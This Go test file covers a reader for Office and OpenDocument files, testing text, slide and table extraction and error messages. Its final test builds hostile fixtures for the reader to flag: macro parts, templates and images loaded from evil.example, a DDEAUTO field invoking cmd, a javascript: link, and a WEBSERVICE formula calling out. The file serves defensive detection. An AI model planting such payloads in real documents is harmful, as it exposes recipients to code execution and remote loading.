package document

import (
	"archive/zip"
	"bytes"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

func zipOf(t *testing.T, namesAndContents ...string) []byte {
	t.Helper()
	var buffer bytes.Buffer
	archive := zip.NewWriter(&buffer)
	for i := 0; i < len(namesAndContents); i += 2 {
		member, err := archive.Create(namesAndContents[i])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := member.Write([]byte(namesAndContents[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := archive.Close(); err != nil {
		t.Fatal(err)
	}
	return buffer.Bytes()
}

const (
	relationTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	mainTypes     = "application/vnd.openxmlformats-officedocument."
)

func relation(id, kind, target, mode string) string {
	return `<Relationship Id="` + id + `" Type="` + relationTypes + kind + `" Target="` + target + `" TargetMode="` + mode + `"/>`
}

func relations(all ...string) string {
	return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + strings.Join(all, "") + `</Relationships>`
}

func contentTypesOf(part, kind string, more ...string) string {
	return `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Override PartName="/` + part + `" ContentType="` + kind + `"/>` + strings.Join(more, "") + `</Types>`
}

// wordFile is a Word document with a body, and more parts.
func wordFile(t *testing.T, body string, more ...string) []byte {
	t.Helper()
	return zipOf(t, append([]string{
		"[Content_Types].xml", contentTypesOf("text/main.xml", mainTypes+"wordprocessingml.document.main+xml"),
		"_rels/.rels", relations(relation("r1", "officeDocument", "/text/main.xml", "Internal")),
		"text/main.xml", `<w:document xmlns:w="w" xmlns:mc="mc"><w:body>` + body + `</w:body></w:document>`,
	}, more...)...)
}

func read(t *testing.T, format Format, content []byte) Content {
	t.Helper()
	got, err := format.Read(t.Context(), File{Name: "work", Content: content}, NewBudget(nil))
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	if err := format.Mismatch(got); err != nil {
		t.Errorf("Mismatch: %v", err)
	}
	return got
}

func TestRead_WordFollowsThePointersOfThePackage(t *testing.T) {
	t.Parallel()
	got := read(t, Word, wordFile(t, `
		<w:p><w:pPr><w:pStyle w:val="berschrift2"/></w:pPr><w:r><w:t>Energie</w:t></w:r></w:p>
		<w:p><w:r><w:t xml:space="preserve">Two </w:t><w:tab/><w:t>words</w:t><w:delText>gone</w:delText></w:r></w:p>
		<w:p><w:pPr><w:numPr/></w:pPr><w:r><mc:AlternateContent>
		<mc:Choice><w:t>new</w:t></mc:Choice><mc:Fallback><w:t>old</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>`,
		"text/_rels/main.xml.rels", relations(relation("r1", "styles", "looks.xml", "")),
		"text/looks.xml", `<w:styles xmlns:w="w"><w:style w:styleId="berschrift2"><w:name w:val="heading 2"/></w:style></w:styles>`,
	))
	want := []Block{{Heading, 2, "Energie"}, {Paragraph, 1, "Two words"}, {ListItem, 1, "new"}}
	if diff := cmp.Diff(want, got.Blocks); diff != "" || got.Active != "" {
		t.Errorf("active %q, blocks (-want +got):\n%s", got.Active, diff)
	}
}

func TestRead_SlidesComeInTheOrderInWhichTheyAreShown(t *testing.T) {
	t.Parallel()
	slide := func(text string) string {
		return `<p:sld xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>` + text + `</a:t></a:r></a:p></p:sld>`
	}
	got := read(t, Slides, zipOf(t,
		"[Content_Types].xml", contentTypesOf("deck/main.xml", mainTypes+"presentationml.presentation.main+xml"),
		"_rels/.rels", relations(relation("r1", "officeDocument", "deck/main.xml", "")),
		"deck/main.xml", `<p:presentation xmlns:p="p" xmlns:r="r"><p:sldIdLst><p:sldId id="1" r:id="b"/><p:sldId id="2" r:id="a"/></p:sldIdLst></p:presentation>`,
		"deck/_rels/main.xml.rels", relations(relation("a", "slide", "pages/one.xml", ""), relation("b", "slide", "pages/two.xml", "")),
		"deck/pages/one.xml", slide("second"), "deck/pages/two.xml", slide("first"),
	))
	want := []Block{{Paragraph, 1, "first"}, {Paragraph, 1, "second"}}
	if diff := cmp.Diff(want, got.Blocks); diff != "" {
		t.Errorf("blocks (-want +got):\n%s", diff)
	}
}

// renamed moves the main part of a workbook to another name.
func renamed(t *testing.T, content []byte, replacements ...string) []byte {
	t.Helper()
	reader, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	var parts []string
	for _, member := range reader.File {
		opened, err := member.Open()
		if err != nil {
			t.Fatal(err)
		}
		var text bytes.Buffer
		if _, err := text.ReadFrom(opened); err != nil {
			t.Fatal(err)
		}
		change := strings.NewReplacer(replacements...)
		parts = append(parts, change.Replace(member.Name), change.Replace(text.String()))
	}
	return zipOf(t, parts...)
}

func TestRead_WorkbookHasItsTablesWhateverItsPartsAreCalled(t *testing.T) {
	t.Parallel()
	file := excelize.NewFile()
	for cell, value := range map[string]any{"A1": "Item", "B1": "Cost", "A2": "Rent", "B2": 900} {
		if err := file.SetCellValue("Sheet1", cell, value); err != nil {
			t.Fatal(err)
		}
	}
	if err := file.SetCellFormula("Sheet1", "B3", "=SUM(B2:B2)"); err != nil {
		t.Fatal(err)
	}
	var buffer bytes.Buffer
	if err := file.Write(&buffer); err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string][]byte{
		"as it is":            buffer.Bytes(),
		"under another name":  renamed(t, buffer.Bytes(), "workbook.xml", "book2.xml"),
		"with other pointers": renamed(t, buffer.Bytes(), `Target="xl/workbook.xml"`, `Target="/xl/workbook.xml"`),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := read(t, Workbook, content)
			if len(got.Tables) != 1 || got.Tables[0].Formulas != 1 || len(got.Tables[0].Rows) != 3 || got.Tables[0].Rows[1][0] != "Rent" {
				t.Errorf("tables: %+v", got.Tables)
			}
		})
	}
}

func odfFile(t *testing.T, kind, body string, more ...string) []byte {
	t.Helper()
	return zipOf(t, append([]string{
		"mimetype", openDocumentPrefix + kind,
		"content.xml", `<o:document-content xmlns:o="o" xmlns:text="t" xmlns:table="b" xmlns:draw="d" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="s"><o:scripts/><o:body><o:` + kind + `>` + body + `</o:` + kind + `></o:body></o:document-content>`,
	}, more...)...)
}

func TestRead_OpenDocumentText(t *testing.T) {
	t.Parallel()
	got := read(t, OpenText, odfFile(t, "text", `<text:h text:outline-level="2">Energy<text:s/>use</text:h><text:p>One<text:line-break/>two <text:span>three</text:span></text:p>
		<text:list><text:list-item><text:p>item</text:p></text:list-item></text:list><text:tracked-changes><text:p>gone</text:p></text:tracked-changes>`))
	want := []Block{{Heading, 2, "Energy use"}, {Paragraph, 1, "One two three"}, {ListItem, 1, "item"}}
	if diff := cmp.Diff(want, got.Blocks); diff != "" || got.Active != "" {
		t.Errorf("active %q, blocks (-want +got):\n%s", got.Active, diff)
	}
}

func TestRead_OpenDocumentSpreadsheetWithRepeatedCells(t *testing.T) {
	t.Parallel()
	got := read(t, OpenSheet, odfFile(t, "spreadsheet", `<table:table table:name="Costs">
		<table:table-row><table:table-cell><text:p>Item</text:p></table:table-cell><table:table-cell table:number-columns-repeated="2"><text:p>x</text:p></table:table-cell><table:table-cell table:number-columns-repeated="16000"/></table:table-row>
		<table:table-row table:number-rows-repeated="2"><table:table-cell table:formula="of:=SUM([.A1])"><text:p>3</text:p></table:table-cell></table:table-row>
		<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row></table:table>`))
	want := []Table{{Name: "Costs", IsSheet: true, Formulas: 1, Rows: [][]string{{"Item", "x", "x"}, {"3"}, {"3"}}}}
	if diff := cmp.Diff(want, got.Tables); diff != "" {
		t.Errorf("tables (-want +got):\n%s", diff)
	}
}

func TestRead_SaysWhyADocumentDoesNotOpen(t *testing.T) {
	t.Parallel()
	rows := map[string]struct {
		format  Format
		content []byte
		want    string
	}{
		"no pointer and no usual name": {Word, zipOf(t, "[Content_Types].xml", "<Types/>", "a.xml", "<a/>"), "does not say which part is the main one"},
		"a pointer to nothing":         {Word, zipOf(t, "[Content_Types].xml", "<Types/>", "_rels/.rels", relations(relation("r", "officeDocument", "word/lost.xml", ""))), "word/lost.xml is missing"},
		"a backslash in a name":        {Word, zipOf(t, "[Content_Types].xml", "<Types/>", `word\document.xml`, "<a/>"), "a backslash in its name"},
		"another archive":              {Word, zipOf(t, "readme.txt", "hello"), "archive without a document"},
		"a password":                   {OpenText, odfFile(t, "text", "", "META-INF/manifest.xml", `<m:manifest xmlns:m="m"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>`), "encrypted"},
		"markup that breaks off":       {OpenText, zipOf(t, "mimetype", openDocumentPrefix+"text", "content.xml", "<a><b>"), "not well-formed"},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := row.format.Read(t.Context(), File{Content: row.content}, NewBudget(nil))
			if err == nil || !strings.Contains(err.Error(), row.want) {
				t.Errorf("err = %v, want %q", err, row.want)
			}
		})
	}
	presentation := odfFile(t, "presentation", "")
	if got, err := Word.Read(t.Context(), File{Content: presentation}, NewBudget(nil)); err != nil || Word.Mismatch(got) == nil {
		t.Errorf("a presentation opens as a Word document: %v", err)
	}
}

func TestRead_FindsWhatAnOfficeDocumentRunsOrLoads(t *testing.T) {
	t.Parallel()
	rels := func(kind, target, mode string) []string {
		return []string{"text/_rels/main.xml.rels", relations(relation("x", kind, target, mode))}
	}
	field := func(parts ...string) string {
		return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + strings.Join(parts, `</w:instrText></w:r><w:r><w:instrText>`) + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
	}
	for name, row := range map[string]struct {
		format  Format
		content []byte
		active  bool
	}{
		"macros by their relationship":     {Word, wordFile(t, "", rels("vbaProject", "secret.bin", "")...), true},
		"a template from elsewhere":        {Word, wordFile(t, "", rels("attachedTemplate", "https://evil.example/t.dotm", "External")...), true},
		"a template of the writer's disk":  {Word, wordFile(t, "", rels("attachedTemplate", `file:///C:\Users\me\my.dotx`, "External")...), false},
		"a picture from elsewhere":         {Word, wordFile(t, "", rels("image", `\\evil.example\x.png`, "External")...), true},
		"a link":                           {Word, wordFile(t, "", rels("hyperlink", "https://example.com/vbaProject", "External")...), false},
		"a link that runs":                 {Word, wordFile(t, "", rels("hyperlink", "javascript:x()", "External")...), true},
		"a field that runs, in pieces":     {Word, wordFile(t, field(" DDE", "AUTO c:\\\\x cmd")), true},
		"a field that loads":               {Word, wordFile(t, field(` INCLUDEPICTURE "https://evil.example/x" \d`)), true},
		"a field of the document":          {Word, wordFile(t, field(` TOC \o "1-3"`)), false},
		"words about fields":               {Word, wordFile(t, `<w:p><w:r><w:t>DDEAUTO and vbaProject.bin</w:t></w:r></w:p>`), false},
		"macros in OpenDocument":           {OpenText, odfFile(t, "text", "", "Basic/Standard/Module1.xml", "<m/>"), true},
		"an empty library in OpenDocument": {OpenText, odfFile(t, "text", "", "Basic/Standard/script-lb.xml", "<l/>"), false},
		"an event in OpenDocument":         {OpenText, odfFile(t, "text", `<script:event-listener/>`), true},
		"a picture from elsewhere, ODF":    {OpenText, odfFile(t, "text", `<draw:image xlink:href="http://evil.example/x.png"/>`), true},
		"a link in OpenDocument":           {OpenText, odfFile(t, "text", `<text:a xlink:href="http://example.com/">x</text:a><draw:image xlink:href="Pictures/x.png"/>`), false},
		"a formula that loads, ODF":        {OpenSheet, odfFile(t, "spreadsheet", `<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/></table:table-row></table:table>`), true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := read(t, row.format, row.content); (got.Active != "") != row.active {
				t.Errorf("active = %q", got.Active)
			}
		})
	}
}
